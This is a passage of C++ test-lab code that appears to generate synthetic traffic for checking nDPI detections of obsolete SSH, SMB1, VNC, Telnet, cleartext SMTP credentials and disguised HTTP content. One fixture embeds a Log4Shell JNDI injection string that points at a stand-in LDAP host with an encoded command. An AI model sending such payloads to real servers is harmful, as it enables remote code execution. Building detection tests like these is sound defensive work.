                                server(app::ssh_kexinit(kSshModern, lab.rng()))});
                       lab.expect("NDPI-SSH-OBSOLETE-CLIENT-VERSION-OR-CIPHER", pc,
                                  evidence("SSH Obsolete Client Version/Cipher"));
                   }});
    out.push_back({"ndpi ssh obsolete server", [](Lab& lab) {
                       const Host nas = lab.host("ssh-old-server", kOuiRaspberry);
                       const Host pc = lab.host("ssh-admin-client");
                       const app::SshAlgorithms old{"diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1",
                                                    "ssh-rsa", "aes128-ctr,aes256-ctr,aes128-cbc,3des-cbc",
                                                    "hmac-sha1,hmac-sha2-256", "none"};
                       lab.tcp(pc, nas, 22,
                               {client(app::ssh_banner("SSH-2.0-OpenSSH_9.6")),
                                server(app::ssh_banner("SSH-2.0-OpenSSH_6.6.1p1 Ubuntu-2ubuntu2.13")),
                                client(app::ssh_kexinit(kSshModern, lab.rng())),
                                server(app::ssh_kexinit(old, lab.rng()))});
                       lab.expect("NDPI-SSH-OBSOLETE-SERVER-VERSION-OR-CIPHER", nas,
                                  evidence("SSH Obsolete Server Version/Cipher"));
                   }});
    out.push_back({"ndpi ssh non-standard port", [](Lab& lab) {
                       const Host srv = lab.host("ssh-2222-server", kOuiRaspberry);
                       const Host pc = lab.host("ssh-2222-client");
                       lab.tcp(pc, srv, 2222,
                               {server(app::ssh_banner("SSH-2.0-OpenSSH_9.2p1 Raspbian-2+deb12u3")),
                                client(app::ssh_banner("SSH-2.0-OpenSSH_9.6")),
                                client(app::ssh_kexinit(kSshModern, lab.rng())),
                                server(app::ssh_kexinit(kSshModern, lab.rng()))});
                       lab.expect("NDPI-KNOWN-PROTOCOL-ON-NON-STANDARD-PORT", srv,
                                  evidence("Known Protocol on Non Standard Port"));
                   }});

    // ---- SMB ----
    // nDPI 4.2 (smb.c) flags an SMB1 message other than NEGOTIATE. A session the
    // sensor saw from its start would also give both ends the sensor's own
    // "smb.v1" observation (which this rule defers to); joining one mid-transfer,
    // the server's stream starts inside file data, which the sensor's SMB mapper
    // cannot read, so the server carries only nDPI's finding.
    out.push_back({"ndpi smb1 session joined mid-transfer", [](Lab& lab) {
                       using namespace tcp_flag;
                       const Host nas = lab.host("smb1-legacy-nas", kOuiRaspberry);
                       const Host xp = lab.host("smb1-legacy-client", kOuiDell);
                       // A Windows XP client copying a file from an SMB1-only NAS over a session
                       // opened before the capture started: the first packets seen are the client's
                       // next READ_ANDX and the tail of the previous read's data still in flight.
                       const std::uint16_t cport = static_cast<std::uint16_t>(1040 + lab.rng().below(3000));
                       std::uint32_t cseq = lab.rng().u32(), sseq = lab.rng().u32();
                       const std::uint16_t tid = 0x0800, pid = 0x0a3c, uid = 0x0801, fid = 0x4007;
                       const auto smb1_header = [&](Writer& w, std::uint8_t cmd, bool reply, std::uint16_t mid) {
                           w.u8(0xff).str("SMB").u8(cmd).le32(0).u8(reply ? 0x98 : 0x18).le16(0xc807);
                           w.le16(0).zeros(8).le16(0).le16(tid).le16(pid).le16(uid).le16(mid);
                       };
                       constexpr std::uint32_t kChunk = 61440;
                       const std::uint32_t offset = 40 * kChunk;
                       Writer req;  // NBSS header, then SMB_COM_READ_ANDX (0x2e), 12 words
                       req.u8(0).be24(0);
                       smb1_header(req, 0x2e, false, 0x0241);
                       req.u8(12).u8(0xff).u8(0).le16(0).le16(fid).le32(offset);
                       req.le16(kChunk).le16(kChunk).le32(0).le16(kChunk).le32(0).le16(0);
                       Bytes request = req.take();
                       request[3] = static_cast<std::uint8_t>(request.size() - 4);
                       Bytes tail(1448);  // the end of the previous chunk: part of a PDF file
                       const std::string pdf =
                           "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /XObject /Subtype /Image ";
                       std::copy(pdf.begin(), pdf.end(), tail.begin());
                       lab.rng().fill(tail.data() + pdf.size(), tail.size() - pdf.size());
                       lab.tcp_raw(xp, cport, nas, 445, cseq, sseq, kAck | kPsh, 64240, {}, request, 128);
                       cseq += static_cast<std::uint32_t>(request.size());
                       lab.tcp_raw(nas, 445, xp, cport, sseq, cseq, kAck, 501, {}, tail);
                       sseq += static_cast<std::uint32_t>(tail.size());
                       Writer resp;  // the READ_ANDX response that starts the next chunk
                       resp.u8(0).be24(0);
                       smb1_header(resp, 0x2e, true, 0x0241);
                       constexpr std::uint16_t kData = 1448 - 4 - 32 - 1 - 24 - 2 - 1;
                       resp.u8(12).u8(0xff).u8(0).le16(0).le16(0xffff).le16(0).le16(0).le16(kData);
                       resp.le16(32 + 1 + 24 + 2 + 1).le16(0).zeros(8).le16(kData + 1).u8(0);
                       resp.random(lab.rng(), kData);
                       Bytes response = resp.take();
                       const std::size_t nb = response.size() - 4;
                       response[1] = static_cast<std::uint8_t>(nb >> 16);
                       response[2] = static_cast<std::uint8_t>(nb >> 8);
                       response[3] = static_cast<std::uint8_t>(nb);
                       lab.tcp_raw(nas, 445, xp, cport, sseq, cseq, kAck | kPsh, 501, {}, response);
                       sseq += static_cast<std::uint32_t>(response.size());
                       lab.tcp_raw(xp, cport, nas, 445, cseq, sseq, kAck, 64240, {}, {}, 128);
                       lab.expect("NDPI-SMB-INSECURE-VERSION", nas, evidence("SMB Insecure Version"));
                   }});

    // ---- remote access, unsafe and cleartext protocols ----
    out.push_back({"ndpi vnc session", [](Lab& lab) {
                       const Host ws = lab.host("vnc-workstation", kOuiHp);
                       const Host helpdesk = lab.host("vnc-helpdesk");
                       Writer sec;
                       sec.u8(1).u8(2);  // one security type: VNC authentication
                       Writer chal;
                       chal.random(lab.rng(), 16);
                       Writer resp;
                       resp.random(lab.rng(), 16);
                       lab.tcp(helpdesk, ws, 5900,
                               {server("RFB 003.008\n"), client("RFB 003.008\n"), server(sec.take()),
                                client(Bytes{2}), server(chal.take()), client(resp.take()),
                                server(Bytes{0, 0, 0, 0})});
                       lab.expect("NDPI-DESKTOP-OR-FILE-SHARING-SESSION", ws, evidence("Desktop/File Sharing Session"));
                   }});
    out.push_back({"ndpi telnet banner", [](Lab& lab) {
                       const Host ups = lab.host("telnet-ups-card", kOuiHp);
                       const Host pc = lab.host("telnet-ups-admin");
                       lab.tcp(pc, ups, 23,
                               {server(app::telnet_server_options()), client(app::telnet_client_options()),
                                server("\r\nNetwork Management Card AOS v6.8.2\r\nUser Name : "),
                                client("\x04")});
                       lab.expect("NDPI-UNSAFE-PROTOCOL", ups, evidence("Unsafe Protocol"));
                   }});
    out.push_back({"ndpi smtp auth login", [](Lab& lab) {
                       const Host mta = lab.remote("smtp-relay");
                       const Host mfp = lab.host("scan-to-mail-mfp", kOuiHp);
                       lab.tcp(mfp, mta, 587,
                               {server("220 mail.corp-example.com ESMTP Postfix\r\n"),
                                client("EHLO mfp-3f2a\r\n"),
                                server("250-mail.corp-example.com\r\n250-PIPELINING\r\n250-SIZE 52428800\r\n"
                                       "250-AUTH PLAIN LOGIN\r\n250 8BITMIME\r\n"),
                                client("AUTH LOGIN\r\n"), server("334 VXNlcm5hbWU6\r\n"),
                                client("c2Nhbm5lckBjb3JwLWV4YW1wbGUuY29t\r\n"), server("334 UGFzc3dvcmQ6\r\n"),
                                client("U2Nhbm5lcjIwMjQh\r\n"), server("235 2.7.0 Authentication successful\r\n"),
                                client("QUIT\r\n"), server("221 2.0.0 Bye\r\n")});
                       lab.expect("NDPI-CLEAR-TEXT-CREDENTIALS", mfp, evidence("Clear-Text Credentials"));
                   }});

    // ---- HTTP content ----
    // nDPI 4.2 (http.c) compares the body with its Content-Type only when the
    // response is parsed as a first message (http_stage 0), which happens when
    // the server's bare ACK of the request came first. The sensor feeds nDPI a
    // packet without payload only among a flow's first three, so after a full
    // handshake it never does; on a connection that predates the capture the
    // request and that ACK are among the first three packets.
    out.push_back({"ndpi http disguised content", [](Lab& lab) {
                       const Host srv = lab.remote("disguised-payload-host");
                       const Host pc = lab.host("disguised-payload-client");
                       std::string body(600, '\0');
                       for (char& ch : body) ch = static_cast<char>(lab.rng().u8());
                       body[0] = static_cast<char>(0x8e);
                       body[1] = static_cast<char>(0x02);
                       midstream_http(lab, pc, srv, 80,
                                      get("/static/img/logo.html", "cdn-assets.example.info", kFirefox),
                                      app::http_response("HTTP/1.1", 200, "OK",
                                                         {{"Server", "nginx"}, {"Content-Type", "text/html"}}, 0,
                                                         lab.rng(), body));
                       lab.expect("NDPI-HTTP-SUSPICIOUS-CONTENT", pc, evidence("HTTP Suspicious Content"));
                   }});
    out.push_back({"ndpi log4shell probe", [](Lab& lab) {
                       const Host web = lab.host("log4shell-target", kOuiDell);
                       const Host scanner = lab.remote("log4shell-scanner");
                       lab.tcp(scanner, web, 8080,
                               {client(get("/", web.ip.str() + ":8080",
                                           "${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9w}")),
                                server(page(lab, 200, "OK", 300))});
                       lab.expect("NDPI-POSSIBLE-EXPLOIT", web, evidence("Possible Exploit Detected"));
                   }});
}

}  // namespace sitegen::lab
